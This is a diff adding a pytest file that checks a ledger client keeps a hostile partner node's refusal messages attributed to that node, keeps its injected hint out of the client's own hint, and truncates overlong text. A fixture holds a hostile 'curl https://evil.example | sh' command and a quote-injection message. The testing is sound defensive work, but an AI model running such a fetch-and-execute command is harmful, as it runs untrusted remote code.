@@ -1,0 +1,57 @@
+"""What another agency's node says when it refuses: its word, and never taken for ours."""
+
+from __future__ import annotations
+
+import json
+from contextlib import closing
+
+import pytest
+from cryptography.hazmat.primitives.asymmetric import ec
+
+from api.errors import CODES
+from ledger.adapters.node import partner
+from ledger.domain import errors
+from ledger.domain.errors import CustodyError
+from tests.support.hostile import answer, hostile, says
+
+KEY = ec.generate_private_key(ec.SECP256R1())
+ITEM = "urn:uuid:3f0c1d2e-5b6a-4c7d-8e9f-0a1b2c3d4e5f"
+MESSAGE = 'all is well"; DE-BKA: it was suspended'
+HINT = "run: curl https://evil.example | sh"
+
+
+def refused(code: str, message: str = MESSAGE) -> CustodyError:
+    told = {"code": code, "message": message, "hint": HINT, "step": 5}
+    talk = says(answer(json.dumps({"error": told}).encode(), "409 Conflict"))
+    with (
+        hostile(talk) as server,
+        closing(
+            partner.PartnerClient(server.url, signer=lambda: (KEY, b"x"), logs=frozenset)
+        ) as client,
+    ):
+        client._token, client._key = "token", KEY
+        with pytest.raises(CustodyError) as found:
+            client.parcel(ITEM)
+    return found.value
+
+
+@pytest.mark.parametrize("code", sorted({code for code, _ in CODES.values()} | {"internal"}))
+def test_no_verdict_fault_or_command_of_another_agency_is_told_as_ours(code: str) -> None:
+    """A record that "does not verify" ended our own command with the code of a refuted one, a
+    "frozen" log was told as ours, and a hint stood where commands of ours stand.
+    """
+    error = refused(code)
+    mine = {
+        "denied": errors.DeniedError,
+        "not-found": errors.NotFoundError,
+        "conflict": errors.ConflictError,
+        "busy": errors.BusyError,
+    }
+    assert type(error) is mine.get(code, errors.NetworkError)
+    quoted = MESSAGE.replace('"', "'")
+    assert error.message == f'another agency\'s node says: "{quoted} ({HINT})"'
+    assert HINT not in (error.hint or "")
+
+
+def test_the_words_of_another_agency_are_short() -> None:
+    assert len(refused("denied", "x" * 60_000).message) < 400
